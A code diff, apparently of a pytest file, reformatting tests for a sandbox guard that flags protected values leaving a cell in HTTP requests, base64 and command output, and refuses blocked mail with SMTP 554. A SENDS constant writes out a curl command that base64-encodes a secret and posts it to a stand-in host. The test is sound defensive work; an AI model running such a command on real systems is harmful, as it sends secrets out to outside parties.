@@ -27,9 +27,9 @@ guard:
   action: {{range: %s, output: %s}}
 """
 SENDS = (
-    f"printf {SECRET} | base64 | curl -s -o /dev/null -w '%{{http_code}} ' -d @- http://shop.example/a; "
-    f"curl -s -o /dev/null -w '%{{http_code}} ' -d nothing http://shop.example/b; "
-    f"echo {SECRET}"
+    f"printf {SECRET} | base64 | curl -s -o /dev/null -w '%{{http_code}} ' -d @-"
+    " http://shop.example/a; curl -s -o /dev/null -w '%{http_code} ' -d nothing"
+    f" http://shop.example/b; echo {SECRET}"
 )
 """One request with the value encoded, one without it, and the value in the command's output."""
 
@@ -49,7 +49,9 @@ async def say(policy: Path, home: Path) -> tuple[bytes, Path]:
 
 @pytest.mark.parametrize("anyio_backend", ["asyncio"])
 @pytest.mark.anyio
-async def test_what_leaves_a_cell_is_flagged(belljar: Belljar, tmp_path: Path, anyio_backend: str) -> None:
+async def test_what_leaves_a_cell_is_flagged(
+    belljar: Belljar, tmp_path: Path, anyio_backend: str
+) -> None:
     """A protected value in a request, in base64, and in a command's output: each is on record with
     its place and the number of the event that shows it, and everything goes on as without a guard.
     """
@@ -108,7 +110,9 @@ print(send("the plan is {SECRET}"), send("lunch?"), send("x" * 300_000 + "{SECRE
 
 @pytest.mark.parametrize("anyio_backend", ["asyncio"])
 @pytest.mark.anyio
-async def test_a_mail_that_is_blocked_is_refused_as_smtp_does(belljar: Belljar, tmp_path: Path) -> None:
+async def test_a_mail_that_is_blocked_is_refused_as_smtp_does(
+    belljar: Belljar, tmp_path: Path
+) -> None:
     """554 after its end, for the client's own library, also for one of many pieces; the mail beside
     it is taken."""
     policy = tmp_path / "policy.yaml"
@@ -118,7 +122,11 @@ async def test_a_mail_that_is_blocked_is_refused_as_smtp_does(belljar: Belljar, 
         async with open_cell(policy, run=run, home=belljar.home) as cell:
             output = await cell.exec(["python3", "-c", MAIL])
     assert output.stdout_text.split() == ["554", "250", "554"], output.stderr
-    mails = [e.data for e in read_events(run.path) if e.kind is Kind.NETWORK_ATTEMPT and e.data["what"] == "mail"]
+    mails = [
+        e.data
+        for e in read_events(run.path)
+        if e.kind is Kind.NETWORK_ATTEMPT and e.data["what"] == "mail"
+    ]
     assert [mail["complete"] for mail in mails].count(True) == 1
 
 
